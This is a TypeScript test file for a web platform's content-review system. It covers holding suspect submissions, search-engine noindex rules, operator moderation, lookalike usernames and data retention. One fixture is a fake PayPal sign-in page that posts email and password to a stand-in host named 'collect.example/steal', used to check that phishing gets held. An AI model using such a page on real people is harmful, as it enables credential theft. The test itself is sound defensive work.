import { afterEach, describe, expect, test } from "bun:test"
import { DAY_MS } from "broadside"
import { createTestHost, type TestHost } from "broadside/testing"
import archive from "../../modules/archive/module"
import arena from "../../modules/arena/module"
import discovery from "../../modules/discovery/module"
import exchange from "../../modules/exchange/module"
import gps from "../../modules/gps/module"
import worlds from "../../modules/worlds/module"

let site: TestHost
afterEach(() => site.close())

const start = async (config = "") => {
  const modules = [archive, arena, discovery, exchange, gps, worlds]
  site = await createTestHost({ modules, config })
}
const operator = () => ({ authorization: `Bearer ${site.operatorToken}` })
// biome-ignore lint/suspicious/noExplicitAny: a test says itself what it expects
const send = async (path: string, json: object, headers = {}): Promise<any> => {
  const response = await site.fetch(path, { json, headers })
  return Object.assign(await response.json(), { httpStatus: response.status })
}
const HTML = { accept: "text/html" }
const robotsOf = async (url: string) =>
  (await site.fetch(new URL(url).pathname, { headers: HTML })).headers.get("x-robots-tag")
const isListedBySearch = async (path: string) =>
  !(await (await site.fetch(path, { headers: HTML })).text()).includes('name="robots"')

const GAME = {
  title: "Tea Stall",
  humanName: "Ada",
  html: "<!doctype html><title>Tea Stall</title><p>Pour the tea.",
}
const SIGN_IN = `<!doctype html><title>PayPal: Sign in to your account</title>
<h1>Your PayPal account has been limited</h1><p>Verify your identity within 24 hours or it will be suspended.</p>
<form action="https://collect.example/steal" method="post"><input name="email"><input type="password" name="password">
<button>Sign in</button></form>`
const PHISHING = { title: "PayPal: verify your account", author: "Support", html: SIGN_IN }

describe("what a review decides", () => {
  test("a false sign-in form is held, and the operator sees why", async () => {
    await start()
    const published = await send("/api/workshop/submit", PHISHING)
    expect(published).toMatchObject({ ok: true, held: true })
    const queue = await site.fetch(`/api/operator/pages/${published.id}`, { headers: operator() })
    expect(await queue.json()).toMatchObject({ held: true })
  })

  test("a change of a page to a false sign-in form is held as well, and one more change keeps it so", async () => {
    await start()
    const { id, edit_key } = await send("/api/workshop/submit", {
      ...PHISHING,
      html: GAME.html,
      title: "Tea",
    })
    const path = `/api/workshop/${id}/edit`
    expect((await send(path, { edit_key, html: SIGN_IN })).held).toBe(true)
    expect((await send(path, { edit_key, html: GAME.html })).held).toBe(true)
    expect(JSON.stringify(await site.json("/api/workshop/list"))).not.toContain(id)
  })

  test("a name that looks like a protected one is a reason, beside any other, to hold what it publishes", async () => {
    await start()
    await send("/api/names/paul/claim", {})
    const link = { authorSlug: "pau1", title: "Hello", threadBody: "See https://a.example/x" }
    await send("/api/exchange", link)
    const [row] = site.store.connection.query("SELECT score, signals FROM trust_reviews").values()
    expect(Number(row?.[0])).toBeGreaterThanOrEqual(35)
    expect(String(row?.[1])).toContain("The name pau1 looks like paul, which is protected.")
  })

  test("with mode = off everything is listed, and search engines may list it", async () => {
    await start('[review]\nmode = "off"\nhold = 0\nnoindex = 0')
    const published = await send("/api/workshop/submit", PHISHING)
    expect(published.held).toBeUndefined()
    expect(await robotsOf(published.url)).toBeNull()
  })

  test("a closed site takes nothing new, except from its operator", async () => {
    await start('[review]\nmode = "closed"')
    for (const [path, json] of [
      ["/api/games/submit", GAME],
      ["/api/workshop/submit", PHISHING],
      ["/api/workshop/groups", { name: "Tools", slug: "tools", author: "Ada" }],
      ["/api/exchange", { authorSlug: "ada", title: "Hello", threadBody: "Is anyone here?" }],
      ["/api/challenge/create", { challengerSlug: "ada" }],
      ["/api/location/create", { name: "Hike" }],
    ] as const) {
      expect(await send(path, json)).toMatchObject({ httpStatus: 403, code: "site-closed" })
      expect((await send(path, json, operator())).ok).toBe(true)
    }
    expect((await site.json("/api/games")).games).toHaveLength(1)
  })

  test("thresholds are the operator's: with hold = 101 nothing is held", async () => {
    await start("[review]\nhold = 101")
    const published = await send("/api/workshop/submit", PHISHING)
    expect(published.held).toBeUndefined()
    expect(await robotsOf(published.url)).toBe("noindex, nofollow")
  })
})

describe("search engines", () => {
  test("are asked not to list a new game for three days", async () => {
    await start()
    const { id, url } = await send("/api/games/submit", GAME)
    expect(await robotsOf(url)).toBe("noindex, nofollow")
    expect(await isListedBySearch(`/archive/${id}`)).toBe(false)
    site.advance(3 * DAY_MS + 1)
    await site.runJob("trust.forget-reviews")
    expect(await robotsOf(url)).toBeNull()
    expect(await isListedBySearch(`/archive/${id}`)).toBe(true)
  })

  test("wait as long again after a report in these days, and not at all once the operator has approved it", async () => {
    await start()
    const { id, url } = await send("/api/games/submit", GAME)
    site.advance(2 * DAY_MS)
    expect((await send("/api/reports", { url, reason: "spam" })).ok).toBe(true)
    site.advance(2 * DAY_MS)
    expect(await robotsOf(url)).toBe("noindex, nofollow")
    expect((await send(`/api/operator/games/${id}/approve`, {}, operator())).ok).toBe(true)
    expect(await robotsOf(url)).toBeNull()
    expect(await isListedBySearch(`/archive/${id}`)).toBe(true)
  })

  test("may list at once what the owner of a protected name publishes", async () => {
    await start()
    const { key } = await send("/api/names/ada/claim", {})
    const { url } = await send("/api/games/submit", { ...GAME, humanName: `Ada#${key}` })
    expect(await robotsOf(url)).toBeNull()
  })
})

test("where items came from is forgotten after thirty days", async () => {
  await start()
  await send("/api/games/submit", GAME)
  const sources = () =>
    site.store.connection.query("SELECT source FROM trust_reviews").values().flat()
  expect(sources()).toEqual(["192.0.2.1"])
  site.advance(31 * DAY_MS)
  await site.runJob("trust.forget-reviews")
  expect(sources()).toEqual([null])
})

describe("the operator's queue", () => {
  test("has what was held by hand, also if it never had a review", async () => {
    await start()
    const { id } = await send("/api/games/submit", GAME, operator())
    site.store.connection.run("DELETE FROM trust_reviews")
    const why = { why: "A second look." }
    expect((await send(`/api/operator/games/${id}/hold`, why, operator())).held).toBe(true)
    expect(outcomes()).toEqual(["held"])
  })

  test("forgets what ended by itself or was taken down by its author while it was held", async () => {
    await start('[review]\nmode = "hold"')
    const game = await send("/api/games/submit", GAME)
    const { edit_key } = game
    await send("/api/dispatch/submit", { ...PHISHING, expires_in: 1 })
    expect((await send(`/api/games/${game.id}/take-down`, { edit_key })).ok).toBe(true)
    expect(outcomes()).toEqual(["held", "held"])
    site.advance(2 * DAY_MS)
    await site.runJob("trust.forget-reviews")
    expect(outcomes()).toEqual(["removed", "held"])
  })

  const outcomes = () =>
    site.store.connection.query("SELECT outcome FROM trust_reviews ORDER BY num").values().flat()
})

describe("a copy of someone's page", () => {
  const TEXT = Array.from({ length: 60 }, (_, n) => `lantern word ${n}`).join(" ")
  const own = (title: string) => ({
    title,
    author: title,
    html: `<!doctype html><title>t</title><p>${TEXT} <a href="https://tides.example/x">x</a>`,
  })

  test("that is buried does not take the page itself out of the lists when its author corrects it", async () => {
    await start()
    const { id, edit_key } = await send("/api/workshop/submit", own("Ada"))
    site.advance(1_000)
    const copy = await send("/api/workshop/submit", own("Mallory"))
    await send(`/api/operator/pages/${copy.id}/bury`, { why: "It was spam." }, operator())
    const edit = { edit_key, description: "Corrected" }
    const edited = await send(`/api/workshop/${id}/edit`, edit)
    expect(edited.ok).toBe(true)
    expect(edited.held).toBeUndefined()
    expect((await send("/api/workshop/submit", own("Bob"))).held).toBe(true)
  })
})

describe("an edit while the operator holds the item", () => {
  test("leaves it in the queue", async () => {
    await start()
    const { id, edit_key } = await send("/api/games/submit", GAME)
    const edit = { edit_key, description: "Corrected" }
    const why = { why: "A second look." }
    await Promise.all([
      send(`/api/games/${id}/edit`, edit),
      send(`/api/operator/games/${id}/hold`, why, operator()),
    ])
    expect(site.store.connection.query("SELECT outcome FROM trust_reviews").values()).toEqual([
      ["held"],
    ])
  })
})

describe("what the operator buries while it is held", () => {
  test("is held again, and in no list, once that is undone", async () => {
    await start()
    const { id } = await send("/api/workshop/submit", PHISHING)
    const call = async (args: object) => {
      const params = { name: "moderate", arguments: args }
      const json = { jsonrpc: "2.0", id: 1, method: "tools/call", params }
      const accept = "application/json, text/event-stream"
      return (await site.fetch("/mcp", { json, headers: { ...operator(), accept } })).json()
    }
    await call({ action: "bury", items: [`pages/${id}`], why: "It was spam." })
    const [[entry]] = site.store.connection
      .query("SELECT max(num) FROM trust_moderation_log")
      .values() as [[number]]
    const undone = await call({ action: "undo", entry })
    expect(undone.result.isError ?? false).toBe(false)
    const item = await site.fetch(`/api/operator/pages/${id}`, { headers: operator() })
    expect(await item.json()).toMatchObject({ held: true, removed_at: null })
    expect(JSON.stringify(await site.json("/api/workshop/list"))).not.toContain(id)
  })
})

test("a page that search engines may list stays so when its author corrects it", async () => {
  await start()
  const { id, url, edit_key } = await send("/api/games/submit", GAME)
  site.advance(4 * DAY_MS)
  expect(await robotsOf(url)).toBeNull()
  await send(`/api/games/${id}/edit`, { edit_key, description: "Corrected" })
  expect(await robotsOf(url)).toBeNull()
})
